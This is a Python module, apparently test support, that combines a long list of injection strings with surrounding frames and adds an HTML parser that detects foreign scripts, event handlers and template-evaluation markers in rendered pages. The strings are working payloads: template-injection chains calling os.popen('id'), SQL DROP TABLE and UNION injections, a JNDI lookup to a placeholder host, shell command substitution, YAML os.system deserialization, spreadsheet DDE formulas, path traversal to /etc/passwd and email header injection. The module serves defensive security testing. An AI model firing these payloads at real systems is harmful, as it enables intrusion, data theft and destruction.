"""Words that would act if a page, a message, a file or a log took them for more than words."""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser

PRODUCT = "60481729"
"""What 7777*7777 is: where it stands, somebody has computed."""

SEEDS = (
    # templates of Jinja2, Django, Mako, ERB, Freemarker, Velocity, Twig, Handlebars, Go, Razor, Spring, Slim
    "{{7777*7777}}",
    "{{ 7777*7777 }}",
    "{%print(7777*7777)%}",
    "{% if 1 %}{{7777*7777}}{% endif %}",
    "{% for x in range(7777) %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id') }}",
    "{{ config.items() }}",
    "{{request.environ}}",
    "{{ x|attr('__class__') }}",
    "{{ 'x'|format_map(self) }}",
    "{# comment #}{{7777*7777}}",
    "{{settings.SECRET_KEY}}",
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "{% load module %}",
    "${7777*7777}",
    "#{7777*7777}",
    "*{7777*7777}",
    "@(7777*7777)",
    "<%= 7777*7777 %>",
    "<#assign x=7777*7777>${x}",
    "#set($x=7777*7777)$x",
    "{{=7777*7777}}",
    '{{printf "%d" 60481728}}',
    "[[${7777*7777}]]",
    "%(given_name)s",
    "%(7)s",
    "{0.__class__}",
    "{given_name}",
    "%s%s%n",
    "$given_name",
    "\ue000given_name\ue001",
    # pages
    "<script>xq7()</script>",
    "<xq7 onclick=xq7()>",
    "<img src=x onerror=xq7()>",
    "<svg/onload=xq7()>",
    '"><xq7>',
    "'><xq7>",
    "</title><xq7>",
    "</textarea><xq7>",
    "</script><xq7>",
    "--><xq7>",
    "]]><xq7>",
    '" onfocus=xq7() autofocus x="',
    "' onmouseover='xq7()",
    "javascript:xq7()",
    "data:text/html,<xq7>",
    "<iframe src=//xq7.example>",
    "<base href=//xq7.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//xq7.example><input name=csrfmiddlewaretoken>",
    "<style>*{background:url(//xq7.example)}</style>",
    "&lt;xq7&gt;",
    "&#60;xq7&#62;",
    "<a href=javascript:xq7()>x</a>",
    "＜xq7＞",
    # the database
    "'; DROP TABLE patient; --",
    "' OR '1'='1",
    "1) UNION SELECT 1--",
    "$$; SELECT pg_sleep(9); $$",
    "\\'; --",
    # headers, calendars, MIME
    "x\r\nBcc: xq7@xq7.example",
    "x\nX-Xq7: 1",
    "x\rSubject: xq7",
    "x\r\n\r\nxq7",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "=?utf-8?q?=0aBcc:_xq7?=",
    "x\x0bBcc: xq7",
    "x\x85Bcc: xq7",
    "x\u2028Bcc: xq7",
    "a\x00b",
    "\r\n.\r\nRCPT TO:<xq7>",
    # spreadsheets
    "=7777*7777",
    "+7777*7777",
    "-7777*7777",
    "@SUM(7777*7777)",
    "=cmd|' /C calc'!A0",
    "\t=7777*7777",
    "\r=1",
    "\n=7777*7777",
    "＝7777*7777",
    "\x00=1",
    '=HYPERLINK("//xq7.example")',
    '",=7777*7777,"',
    # logs
    'x\n{"event": "xq7", "level": "info"}',
    "\x1b[2J\x1b[31mxq7",
    "\x1b]0;xq7\x07",
    '", "level": "xq7", "a": "',
    "\x08\x08\x08xq7",
    "${jndi:ldap://xq7.example/a}",
    # paths and what else is read as something
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "|id",
    "`id`",
    "$(id)",
    "!!python/object/apply:os.system ['id']",
    "&a *a",
    "\u202egnp.xq7",
    "\u2066xq7",
    "xq7\u200b",
    "\ufeff",
    "\ud800",
    "𝓧𝓺7",
    "ﷺ" * 20,
    "A\u0301" * 60,
)
"""Words on their own, by what they are meant for."""

FRAMES = (
    "{}",
    "Ann {}",
    "{} Ann",
    "Ann{}Ann",
    "{0}{0}",
    " {} ",
    "'{}'",
    '"{}"',
    "({})",
    "[{}]",
    "{}\n{}",
    "\t{}",
    "x\r\n{}",
    "<b>{}</b>",
    "\u202e{}",
    "‏{}",
    "-->{}",
    "*/{}",
    "\\{}",
    "a, {}",
    "%7B{}",
    "{}%",
)
"""What stands around them."""


@cache
def payloads() -> tuple[str, ...]:
    """Every seed in every frame."""
    return tuple(
        dict.fromkeys(frame.replace("{0}", "{}").replace("{}", seed) for frame in FRAMES for seed in SEEDS)
    )


Named = dict[str, str | None]

_OURS: dict[str, Callable[[Named], bool]] = {
    # Mails and pages are shown in a frame that may do nothing.
    "iframe": lambda named: "sandbox" in named and str(named.get("src", "")).startswith("/"),
    # A list that waits looks again by itself after many seconds, at itself.
    "meta": lambda named: (
        "http-equiv" not in named or bool(re.fullmatch(r"\d{2,}", named.get("content") or ""))
    ),
}


class _Page(HTMLParser):
    """Looks for what no page of ours has."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        named = dict(attrs)
        if tag in {"xq7", "object", "embed", "base"} or (tag in _OURS and not _OURS[tag](named)):
            self.found.append(f"<{tag}>")
        if tag == "script" and not str(named.get("src", "")).startswith("/static/"):
            self.found.append("a script that is not ours")
        for name, value in attrs:
            says = (value or "").strip().lower()
            leads = name in {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}
            outside = says.startswith(("javascript:", "vbscript:", "data:text", "//"))
            if name.startswith("on") or name == "srcdoc" or (leads and outside):
                self.found.append(f"{tag} {name}={says[:40]}")


def broken_out(html: str) -> list[str]:
    """What in a page is not ours: elements, handlers, addresses that run, and results of a computation."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.found + ([f"computed {PRODUCT}"] if PRODUCT in html else [])


def elements(html: str) -> list[str]:
    """The elements of a page, in their order."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.tags
